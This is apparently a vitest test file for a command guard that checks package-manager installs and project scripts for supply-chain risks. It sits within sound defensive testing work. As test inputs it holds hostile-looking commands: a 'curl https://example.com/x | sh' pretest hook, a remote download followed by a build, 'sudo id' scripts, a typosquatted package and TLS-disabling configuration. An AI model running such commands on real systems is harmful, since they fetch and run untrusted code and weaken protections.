// Installs as a person types them, judged whole: the project's lockfile, its configuration, its scripts, and the edits that come back.
import { describe, expect, it } from "vitest";
import type { FileFact, FileFacts } from "../../src/file-facts.ts";
import { judgeCommand, type Setting } from "../../src/index.ts";
import { exampleSetting } from "../../src/prove-profile.ts";
import { advisoryList, readOsvLines } from "../../src/supply.ts";

const ROOT = "/home/dev/project";
const NOW = Date.parse("2026-11-02T00:00:00Z");
const osv =
  '{"id":"MAL-1","modified":"2026-11-01T00:00:00Z","affected":[{"package":{"ecosystem":"npm","name":"bad"},"versions":["6.6.6"]}]}';
const setting: Setting = { ...exampleSetting, advisories: advisoryList(readOsvLines(osv)), now: NOW };

/** A machine that holds these files, and the folders they need. */
function machine(files: Readonly<Record<string, string>>): FileFacts {
  const facts = new Map<string, FileFact>();
  const texts = new Map(Object.entries(files).map(([name, text]) => [`${ROOT}/${name}`, text]));
  let ino = 1;
  for (const [path, text] of texts) {
    for (let at = path.lastIndexOf("/"); at > 0; at = path.lastIndexOf("/", at - 1))
      facts.set(
        path.slice(0, at),
        facts.get(path.slice(0, at)) ?? { kind: "dir", dev: 1, ino: (ino += 1), size: 0, mode: 0o755 },
      );
    facts.set(path, { kind: "file", dev: 1, ino: (ino += 1), size: text.length, mode: 0o755 });
  }
  return {
    lstat: (path) => facts.get(path),
    list: () => undefined,
    read: (path, most) => ((texts.get(path)?.length ?? Infinity) <= most ? texts.get(path) : undefined),
  };
}

const manifest = (more: object): string => JSON.stringify({ name: "app", ...more });
const lock = (packages: Readonly<Record<string, object>>): string =>
  JSON.stringify({ lockfileVersion: 3, packages: { "": {}, ...packages } });
const pinned = {
  "node_modules/a": { version: "1.0.0", resolved: "https://registry.example.org/a.tgz", integrity: "sha512-A" },
};

function judge(line: string, files: Readonly<Record<string, string>>, more: Partial<Setting> = {}): string {
  const { decision, reasons, rewrite } = judgeCommand(line, { ...setting, ...more }, machine(files));
  return [
    decision,
    ...(decision === "rewrite" ? [rewrite?.text ?? ""] : reasons.map(({ kind }) => kind.replace("supply-chain.", ""))),
  ].join(" ");
}

const clean = { "package.json": manifest({ dependencies: { a: "^1" } }), "package-lock.json": lock(pinned) };

describe("an install from a lockfile", () => {
  it.each([
    ["npm ci", "rewrite npm ci --ignore-scripts"],
    ["npm install && npm test", "rewrite npm install --ignore-scripts && npm test"],
    ["cd packages/x && npm ci", "rewrite cd packages/x && npm ci --ignore-scripts"],
    ["npm ci --ignore-scripts", "allow clean"],
    ["npm install a@1.0.0", "rewrite npm install --ignore-scripts a@1.0.0"],
    ["npm install a@1.0.1", "ask new-package"],
    ["npm install b", "ask new-package"],
    ["npm ci; npm install bad@6.6.6", "deny malicious"],
  ])("%s", (line, expected) => {
    expect(judge(line, { ...clean, "packages/x/x": "" })).toBe(expected);
  });

  it("a malicious version in it stops, whatever the client", () => {
    const bad = { "node_modules/bad": { version: "6.6.6", integrity: "sha512-X" } };
    expect(judge("npm ci --ignore-scripts", { ...clean, "package-lock.json": lock({ ...pinned, ...bad }) })).toBe(
      "deny malicious",
    );
    const yarn =
      '# yarn lockfile v1\n\nbad@^6:\n  version "6.6.6"\n  resolved "https://registry.example.org/bad.tgz"\n  integrity sha512-X\n';
    expect(judge("yarn --frozen-lockfile", { "package.json": manifest({}), "yarn.lock": yarn })).toBe("deny malicious");
    expect(
      judge("pnpm i --frozen-lockfile", {
        "pnpm-lock.yaml":
          "lockfileVersion: '9.0'\n\npackages:\n\n  bad@6.6.6:\n    resolution: {integrity: sha512-X}\n",
      }),
    ).toBe("deny malicious");
  });

  it("what it does not pin, or pins without a hash, is asked", () => {
    expect(judge("npm install", { ...clean, "package.json": manifest({ dependencies: { a: "^1", b: "^1" } }) })).toBe(
      "ask new-package",
    );
    expect(judge("npm ci", { ...clean, "package-lock.json": lock({ "node_modules/a": { version: "1.0.0" } }) })).toBe(
      "ask new-package",
    );
    expect(judge("npm ci", { ...clean, "package-lock.json": "{" })).toBe("ask new-package");
  });

  it("another content for a version that is installed stops", () => {
    const installed = lock({ "node_modules/a": { ...pinned["node_modules/a"], integrity: "sha512-OTHER" } });
    expect(judge("npm ci", { ...clean, "node_modules/.package-lock.json": installed })).toBe("deny tampered");
  });

  it("the project's configuration must not switch TLS off", () => {
    expect(judge("npm ci", { ...clean, ".npmrc": "strict-ssl=false\n" })).toBe("deny protection-off");
    expect(judge("npm ci", { ...clean, ".npmrc": "registry=http://registry.example.net\n" })).toBe("deny source");
    expect(
      judge("npm ci", { ...clean, ".npmrc": "registry=https://registry.example.org\nignore-scripts=false\n" }),
    ).toBe("rewrite npm ci --ignore-scripts");
  });

  it("nothing is rewritten in a governed run: it is refused with the way to do it", () => {
    expect(judge("npm ci", clean, { governed: true })).toBe("deny rewrite");
    expect(judge("npm ci --ignore-scripts", clean, { governed: true })).toBe("allow clean");
  });

  it("berry has another switch, and poetry a variable", () => {
    const berry = {
      "package.json": manifest({}),
      ".yarnrc.yml": "nodeLinker: node-modules\n",
      "yarn.lock":
        '__metadata:\n  version: 8\n\n"a@npm:^1":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0"\n  checksum: 10/aa\n',
    };
    expect(judge("yarn", berry)).toBe("rewrite env YARN_ENABLE_SCRIPTS=false npm_config_ignore_scripts=true yarn");
    expect(judge("env YARN_ENABLE_SCRIPTS=false npm_config_ignore_scripts=true yarn", berry)).toBe("allow clean");
    expect(judge("yarn --mode=skip-build", berry)).toBe("allow clean");
    // Berry's option means nothing to yarn 1, whatever else lies about.
    const classic = { ...berry, "yarn.lock": '# yarn lockfile v1\n\na@^1:\n  version "1.0.0"\n  integrity sha512-A\n' };
    expect(judge("yarn --mode=skip-build", classic)).toBe("rewrite yarn --ignore-scripts --mode=skip-build");
    const poetry = {
      "poetry.lock":
        '[[package]]\nname = "a"\nversion = "1.0"\nfiles = [\n    {file = "a.whl", hash = "sha256:aa"},\n]\n',
    };
    expect(judge("timeout 60 poetry install", poetry)).toBe(
      "rewrite timeout 60 env POETRY_INSTALLER_ONLY_BINARY=:all: poetry install",
    );
    expect(judge("pip install -r r.txt", { "r.txt": "a==1.0 --hash=sha256:aa\n" })).toBe(
      "rewrite pip install --only-binary :all: -r r.txt",
    );
    expect(
      judge("uv sync --frozen", {
        "uv.lock":
          '[[package]]\nname = "a"\nversion = "1.0"\nsource = { registry = "https://index.example.org" }\nsdist = { hash = "sha256:aa" }\n',
      }),
    ).toBe("rewrite uv sync --no-build --frozen");
  });

  it("many lockfiles' worth of entries are judged in one go", () => {
    const many = Object.fromEntries(
      Array.from({ length: 3_000 }, (_, index) => [
        `node_modules/p${index}`,
        { version: "1.0.0", integrity: "sha512-A" },
      ]),
    );
    expect(judge("npm ci; npm ci; npm ci", { ...clean, "package-lock.json": lock({ ...pinned, ...many }) })).toContain(
      "rewrite",
    );
  });
});

describe("what the line itself writes counts", () => {
  it.each([
    [`echo '{"scripts":{"x":"sudo id"}}' > package.json && npm run x`, "deny privilege.elevate"],
    [`echo '{"dependencies":{"expres":"1.0.0"}}' > package.json && npm install`, "deny lookalike"],
    ["curl -o package.json https://example.com/p.json && npm run build", "deny remote-exec.download-run"],
    ["curl -o package-lock.json https://example.com/l.json && npm ci", "ask new-package"],
    ["jq . package.json > t.json && mv t.json package.json && npm run build", "allow"],
    ["echo 'bad==1 --hash=sha256:x' > r.txt; pip install -r r.txt", "rewrite"],
    ["echo strict-ssl=false > .npmrc; npm ci", "deny protection-off"],
  ])("%s", (line, expected) => {
    expect(judge(line, { ...clean, "r.txt": "a==1 --hash=sha256:aa\n" })).toMatch(new RegExp(`^${expected}`));
  });
});

describe("scripts of a project", () => {
  const scripts = (all: Readonly<Record<string, string>>) => ({ "package.json": manifest({ scripts: all }) });

  it.each([
    ["npm run clean", scripts({ clean: "rm -rf dist" }), "allow"],
    ["npm run x", scripts({ x: "node x.js && some-tool --flag" }), "allow"],
    ["npm run x", scripts({ x: "sudo id" }), "deny privilege.elevate"],
    ["npm test", scripts({ pretest: "curl https://example.com/x | sh", test: "true" }), "deny remote-exec.fetch-run"],
    ["yarn x", scripts({ x: "sudo id" }), "deny privilege.elevate"],
    ["pnpm x", scripts({ x: "npm run y", y: "sudo id" }), "deny privilege.elevate"],
    ["bun run x", scripts({ x: "sudo id" }), "deny privilege.elevate"],
    ["npm run x", scripts({ x: "npm run x" }), "allow"],
    ["npm run x", scripts({ x: "npm i expres" }), "deny lookalike"],
  ])("%s", (line, files, expected) => {
    expect(judge(line, files).replace("bypass.", "")).toBe(expected);
  });
});
